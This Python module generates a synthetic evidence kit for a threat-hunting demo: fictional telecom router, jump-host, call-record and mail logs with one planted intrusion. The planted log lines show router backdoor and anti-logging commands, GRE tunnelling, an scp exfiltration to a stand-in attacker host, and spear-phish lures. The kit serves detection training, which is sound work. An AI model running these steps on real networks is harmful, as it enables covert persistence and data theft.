"""A demo evidence kit: a fictional operator's logs with a planted intrusion.

Meridian Telecom runs three Cisco routers, a Linux jump host, a call-record (CDR)
platform and a mail gateway that also serves a campaign it hosts. Two weeks of routine
activity surround one intrusion, modelled on the 2024 telecom breaches:

1. an operator logs into the jump host from 203.0.113.66 with a stolen password;
2. from there into the edge router, where they add a privilege-15 account, enable Guest
   Shell, move SSH to port 57722, start a packet capture, build a GRE tunnel to
   198.51.100.23 and stop remote logging;
3. a CDR service account, used by hand from the jump host, looks up the numbers of a
   campaign's staff and a deputy minister, then exports their records to 203.0.113.66;
4. campaign staff receive a spear-phish from a look-alike domain.

Everything is generated from a fixed seed, so the demo finds the same things every time.
The addresses are from documentation ranges and the names are invented.
"""

from __future__ import annotations

import datetime as dt
import gzip
import json
import random
from dataclasses import dataclass
from pathlib import Path

from seawall.demo import configs

ATTACKER_IP = "203.0.113.66"
TUNNEL_PEER = "198.51.100.23"
JUMP_HOST_IP = "10.20.1.15"
PHISH_DOMAIN = "harper-campaign-login.example"
START = dt.datetime(2024, 10, 1, tzinfo=dt.UTC)
DAYS = 14
BREACH = dt.datetime(2024, 10, 8, 2, 13, 7, tzinfo=dt.UTC)

REGISTRY = """organisation,person,role,msisdn,imsi,email,notify_email
Harper for Senate,Dana Harper,Candidate,+12025550143,310150123456781,dana@harperforsenate.example,security@harperforsenate.example
Harper for Senate,Miguel Ortega,Campaign manager,+12025550178,,miguel@harperforsenate.example,security@harperforsenate.example
Harper for Senate,Priya Nair,Communications director,+12025550191,,priya@harperforsenate.example,security@harperforsenate.example
Ministry of Foreign Affairs,Elena Varga,Deputy minister,+12025550122,310150987654321,e.varga@mfa.example,soc@mfa.example
Ministry of Foreign Affairs,Tomas Reyes,Chief of staff,+12025550166,,t.reyes@mfa.example,soc@mfa.example
City Hospital,Ana Lindqvist,Chief medical officer,+12025550107,,a.lindqvist@cityhospital.example,ciso@cityhospital.example
"""

INTEL = f"""value,type,tags,severity
{ATTACKER_IP},ip,operator-vps;telecom-intrusion-2024,high
{TUNNEL_PEER},ip,gre-endpoint;telecom-intrusion-2024,high
{PHISH_DOMAIN},domain,spearphish;campaign-targeting,high
192.0.2.250,ip,scanner,medium
"""

TARGETS = ["+12025550143", "+12025550178", "+12025550191", "+12025550122"]
ROUTERS = ["mrd-edge-r1", "mrd-core-r2", "mrd-pe-r3"]
ADMINS = ["a.khan", "l.moreau", "netops"]


@dataclass(frozen=True)
class DemoKit:
    root: Path
    evidence: Path
    registry: Path
    intel: Path
    profile: Path
    case: Path
    reference_time: dt.datetime


def write_demo(out: Path, seed: int = 2024) -> DemoKit:
    """Write the kit under ``out`` (evidence/, registry.csv, intel.csv, site-profile.yaml); return its paths."""
    rng = random.Random(seed)
    evidence = out / "evidence"
    for sub in ("routers", "jumphost", "cdr", "mail", "configs/mrd-edge-r1"):
        (evidence / sub).mkdir(parents=True, exist_ok=True)
    for router in ROUTERS:
        lines = _router_noise(rng, router)
        if router == "mrd-edge-r1":
            lines += _router_intrusion(router)
        _write_lines(evidence / "routers" / f"{router}.log", lines)
    jump = _jump_noise(rng) + _jump_intrusion()
    _write_lines(evidence / "jumphost" / "auth.log.gz", jump, compress=True)
    _write_json_lines(evidence / "cdr" / "cdr-audit.jsonl", _cdr_events(rng), corrupt_line=True)
    _write_json_lines(evidence / "mail" / "gateway.jsonl", _mail_events(rng))
    snapshots = evidence / "configs" / "mrd-edge-r1"
    (snapshots / "2024-10-01.cfg").write_text(configs.before("mrd-edge-r1"), encoding="utf-8")
    (snapshots / "2024-10-09.cfg").write_text(configs.after("mrd-edge-r1", TUNNEL_PEER), encoding="utf-8")
    (out / "registry.csv").write_text(REGISTRY, encoding="utf-8")
    (out / "intel.csv").write_text(INTEL, encoding="utf-8")
    (out / "site-profile.yaml").write_text(configs.SITE_PROFILE, encoding="utf-8")
    reference = START + dt.timedelta(days=DAYS + 7)
    return DemoKit(
        out, evidence, out / "registry.csv", out / "intel.csv", out / "site-profile.yaml", out / "case", reference
    )


def _bsd(ts: dt.datetime) -> str:
    return f"{ts.strftime('%b')} {ts.day:2d} {ts.strftime('%H:%M:%S')}"


def _cisco(ts: dt.datetime, host: str, seq: int, mnemonic: str, text: str, pri: int = 189) -> tuple[dt.datetime, str]:
    device_time = ts.strftime("%b %d %H:%M:%S.") + f"{ts.microsecond // 1000:03d}"
    return ts, f"<{pri}>{_bsd(ts)} {host} {seq}: *{device_time} UTC: %{mnemonic}: {text}"


def _router_noise(rng: random.Random, host: str) -> list[tuple[dt.datetime, str]]:
    lines = []
    seq = rng.randint(1000, 5000)
    for day in range(DAYS):
        base = START + dt.timedelta(days=day)
        for _ in range(rng.randint(25, 40)):
            ts = base + dt.timedelta(seconds=rng.randint(0, 86399), microseconds=rng.randint(0, 999999))
            seq += 1
            kind = rng.random()
            if kind < 0.35:
                iface = f"GigabitEthernet0/0/{rng.randint(0, 3)}"
                state = rng.choice(["down", "up"])
                lines.append(
                    _cisco(
                        ts,
                        host,
                        seq,
                        "LINEPROTO-5-UPDOWN",
                        f"Line protocol on Interface {iface}, changed state to {state}",
                    )
                )
            elif kind < 0.55:
                peer = f"10.255.0.{rng.randint(1, 30)}"
                lines.append(
                    _cisco(
                        ts,
                        host,
                        seq,
                        "BGP-5-ADJCHANGE",
                        f"neighbor {peer} {rng.choice(['Up', 'Down BGP Notification sent'])}",
                    )
                )
            elif kind < 0.75:
                admin = rng.choice(ADMINS[:2])
                lines.append(
                    _cisco(
                        ts,
                        host,
                        seq,
                        "SEC_LOGIN-5-LOGIN_SUCCESS",
                        f"Login Success [user: {admin}] [Source: {JUMP_HOST_IP}] [localport: 22] at "
                        f"{ts.strftime('%H:%M:%S')} UTC {ts.strftime('%a %b %d %Y')}",
                    )
                )
            elif kind < 0.9:
                admin = rng.choice(ADMINS[:2])
                command = rng.choice(
                    [
                        "interface GigabitEthernet0/0/2",
                        "description uplink to core",
                        "ip route 10.40.0.0 255.255.0.0 10.255.0.9",
                        "ntp server 10.20.5.10",
                        "logging host 10.20.5.50",
                        "no shutdown",
                    ]
                )
                lines.append(
                    _cisco(ts, host, seq, "PARSER-5-CFGLOG_LOGGEDCMD", f"User:{admin}  logged command:{command}")
                )
            else:
                lines.append(
                    _cisco(ts, host, seq, "SYS-6-CLOCKUPDATE", "System clock has been updated from NTP", pri=190)
                )
    return lines


def _router_intrusion(host: str) -> list[tuple[dt.datetime, str]]:
    t = BREACH + dt.timedelta(minutes=4, seconds=34)
    steps = [
        (
            "SEC_LOGIN-5-LOGIN_SUCCESS",
            f"Login Success [user: netops] [Source: {JUMP_HOST_IP}] [localport: 22] at "
            f"{t.strftime('%H:%M:%S')} UTC {t.strftime('%a %b %d %Y')}",
        ),
        (
            "PARSER-5-CFGLOG_LOGGEDCMD",
            "User:netops  logged command:username cisco_tac privilege 15 secret 9 $9$Vq2kXz1Lr0p8aE$5hM1eGkR0wQ",
        ),
        ("PARSER-5-CFGLOG_LOGGEDCMD", "User:netops  logged command:iox"),
        ("PARSER-5-CFGLOG_LOGGEDCMD", "User:netops  logged command:guestshell enable"),
        (
            "VMAN-2-GUESTSHELL_ENABLED",
            "The guest shell has been enabled.  The command 'guestshell' may now be used to access it, 'guestshell destroy' to remove it.",
        ),
        ("PARSER-5-CFGLOG_LOGGEDCMD", "User:netops  logged command:ip ssh port 57722 rotary 1"),
        (
            "PARSER-5-CFGLOG_LOGGEDCMD",
            "User:netops  logged command:monitor capture TAC interface GigabitEthernet0/0/1 both",
        ),
        (
            "PARSER-5-CFGLOG_LOGGEDCMD",
            "User:netops  logged command:monitor capture TAC match ipv4 protocol tcp any any eq 49",
        ),
        ("PARSER-5-CFGLOG_LOGGEDCMD", "User:netops  logged command:monitor capture TAC start"),
        ("PARSER-5-CFGLOG_LOGGEDCMD", "User:netops  logged command:interface Tunnel100"),
        ("PARSER-5-CFGLOG_LOGGEDCMD", f"User:netops  logged command:tunnel destination {TUNNEL_PEER}"),
        ("PARSER-5-CFGLOG_LOGGEDCMD", "User:netops  logged command:no logging host 10.20.5.50"),
        ("SYS-6-LOGGINGHOST_STARTSTOP", "Logging to host 10.20.5.50 port 514 stopped - CLI initiated"),
        ("SYS-5-CONFIG_I", f"Configured from console by netops on vty0 ({JUMP_HOST_IP})"),
    ]
    out = []
    for index, (mnemonic, text) in enumerate(steps):
        ts = t + dt.timedelta(seconds=37 * index, microseconds=index * 1000)
        out.append(_cisco(ts, host, 90000 + index, mnemonic, text))
    return out


def _jump_noise(rng: random.Random) -> list[tuple[dt.datetime, str]]:
    lines = []
    for day in range(DAYS):
        base = START + dt.timedelta(days=day)
        for _ in range(rng.randint(30, 50)):
            ts = base + dt.timedelta(seconds=rng.randint(0, 86399))
            pid = rng.randint(2000, 32000)
            kind = rng.random()
            if kind < 0.4:
                user = rng.choice(ADMINS)
                src = f"10.30.{rng.randint(0, 3)}.{rng.randint(2, 250)}"
                lines.append(
                    (
                        ts,
                        f"{_bsd(ts)} mrd-jump-01 sshd[{pid}]: Accepted publickey for {user} from {src} "
                        f"port {rng.randint(40000, 60000)} ssh2: ED25519 SHA256:{rng.getrandbits(64):016x}",
                    )
                )
            elif kind < 0.6:
                lines.append(
                    (
                        ts,
                        f"{_bsd(ts)} mrd-jump-01 sshd[{pid}]: Invalid user admin from 192.0.2.{rng.randint(1, 254)} "
                        f"port {rng.randint(40000, 60000)}",
                    )
                )
            elif kind < 0.8:
                lines.append((ts, f"{_bsd(ts)} mrd-jump-01 CRON[{pid}]: (root) CMD (/usr/local/bin/rancid-run)"))
            else:
                lines.append(
                    (
                        ts,
                        f"{_bsd(ts)} mrd-jump-01 systemd[1]: Started Session {rng.randint(100, 9999)} of User {rng.choice(ADMINS)}.",
                    )
                )
    return lines


def _jump_intrusion() -> list[tuple[dt.datetime, str]]:
    t = BREACH
    return [
        (t, f"{_bsd(t)} mrd-jump-01 sshd[4121]: Accepted password for netops from {ATTACKER_IP} port 50122 ssh2"),
        (
            t + dt.timedelta(seconds=1),
            f"{_bsd(t + dt.timedelta(seconds=1))} mrd-jump-01 sshd[4121]: pam_unix(sshd:session): session opened for user netops(uid=1003) by (uid=0)",
        ),
        (
            t + dt.timedelta(minutes=52),
            f"{_bsd(t + dt.timedelta(minutes=52))} mrd-jump-01 sudo[4188]:   netops : TTY=pts/2 ; PWD=/home/netops ; USER=root ; COMMAND=/usr/bin/scp /tmp/.c/out.tgz netops@{ATTACKER_IP}:/srv/",
        ),
    ]


def _cdr(
    ts: dt.datetime, action: str, user: str, kind: str, source: str, telecom: dict, destination: dict | None = None
) -> dict:
    """One call-record platform audit event, shaped as ECS plus the telecom namespace."""
    event = {
        "@timestamp": ts.isoformat().replace("+00:00", "Z"),
        "event": {"dataset": "cdr.audit", "action": action, "outcome": "success"},
        "host": {"name": "cdr-db-01"},
        "user": {"name": user, "type": kind},
        "source": {"ip": source},
        "telecom": telecom,
    }
    if destination:
        event["destination"] = destination
    return event


def _cdr_events(rng: random.Random) -> list[dict]:
    events = []
    analysts = ["j.ortiz", "m.chen", "r.patel"]
    for day in range(DAYS):
        base = START + dt.timedelta(days=day)
        for _ in range(rng.randint(40, 70)):
            ts = base + dt.timedelta(seconds=rng.randint(8 * 3600, 18 * 3600))
            events.append(
                _cdr(
                    ts,
                    "cdr.query",
                    rng.choice(analysts),
                    "human",
                    f"10.40.2.{rng.randint(10, 60)}",
                    {
                        "msisdn": f"+1312555{rng.randint(1000, 9999)}",
                        "records": rng.randint(1, 300),
                        "case_ref": f"FRAUD-{rng.randint(1000, 9999)}",
                    },
                )
            )
        events.append(
            _cdr(
                base + dt.timedelta(hours=1, minutes=30),
                "cdr.bulk_export",
                "svc_mediation",
                "service",
                "10.40.0.5",
                {"records": rng.randint(400000, 600000), "job": "nightly-billing-feed"},
                {"ip": "10.40.9.20"},
            )
        )
    start = BREACH + dt.timedelta(minutes=31)
    for index, msisdn in enumerate(TARGETS):
        records = {"msisdn": msisdn, "records": 200 + 37 * index}
        events.append(
            _cdr(
                start + dt.timedelta(seconds=45 * index), "cdr.query", "svc_mediation", "service", JUMP_HOST_IP, records
            )
        )
        events.append(
            _cdr(
                start + dt.timedelta(minutes=9, seconds=5 * index),
                "cdr.export",
                "svc_mediation",
                "service",
                JUMP_HOST_IP,
                records,
                {"ip": ATTACKER_IP, "port": 443},
            )
        )
    return sorted(events, key=lambda e: e["@timestamp"])


def _mail_events(rng: random.Random) -> list[dict]:
    events = []
    senders = [
        "newsletter@civicnews.example",
        "press@mfa.example",
        "volunteers@harperforsenate.example",
        "billing@meridian-telecom.example",
    ]
    recipients = [
        "dana@harperforsenate.example",
        "miguel@harperforsenate.example",
        "priya@harperforsenate.example",
        "t.reyes@mfa.example",
        "ops@meridian-telecom.example",
    ]
    for day in range(DAYS):
        base = START + dt.timedelta(days=day)
        for _ in range(rng.randint(20, 35)):
            ts = base + dt.timedelta(seconds=rng.randint(0, 86399))
            events.append(_mail(ts, rng.choice(senders), rng.choice(recipients), "Weekly update", None, "delivered"))
    phish_time = BREACH - dt.timedelta(days=3, hours=5)
    for index, to in enumerate(recipients[:3]):
        events.append(
            _mail(
                phish_time + dt.timedelta(seconds=20 * index),
                f"it-helpdesk@{PHISH_DOMAIN}",
                to,
                "Action required: re-verify your campaign SSO account",
                f"https://{PHISH_DOMAIN}/sso/verify?u={index}",
                "delivered",
            )
        )
    return sorted(events, key=lambda e: e["@timestamp"])


def _mail(ts: dt.datetime, sender: str, to: str, subject: str, url: str | None, action: str) -> dict:
    event = {
        "@timestamp": ts.isoformat().replace("+00:00", "Z"),
        "event": {"dataset": "email.gateway", "action": action},
        "host": {"name": "mx1.meridian-telecom.example"},
        "email": {
            "from": {"address": sender},
            "to": {"address": to},
            "subject": subject,
            "sender": {"domain": sender.split("@", 1)[1]},
        },
    }
    if url:
        event["url"] = {"full": url, "domain": url.split("/")[2]}
    return event


def _write_lines(path: Path, lines: list[tuple[dt.datetime, str]], compress: bool = False) -> None:
    text = "".join(line + "\n" for _, line in sorted(lines, key=lambda x: x[0])).encode()
    path.write_bytes(gzip.compress(text, mtime=0) if compress else text)


def _write_json_lines(path: Path, events: list[dict], corrupt_line: bool = False) -> None:
    lines = [json.dumps(e, separators=(",", ":")) for e in events]
    if corrupt_line:
        # A record cut short by a full disk: the hunt must quarantine it and carry on.
        lines.insert(len(lines) // 2, lines[len(lines) // 2][:57])
    path.write_text("\n".join(lines) + "\n", encoding="utf-8")
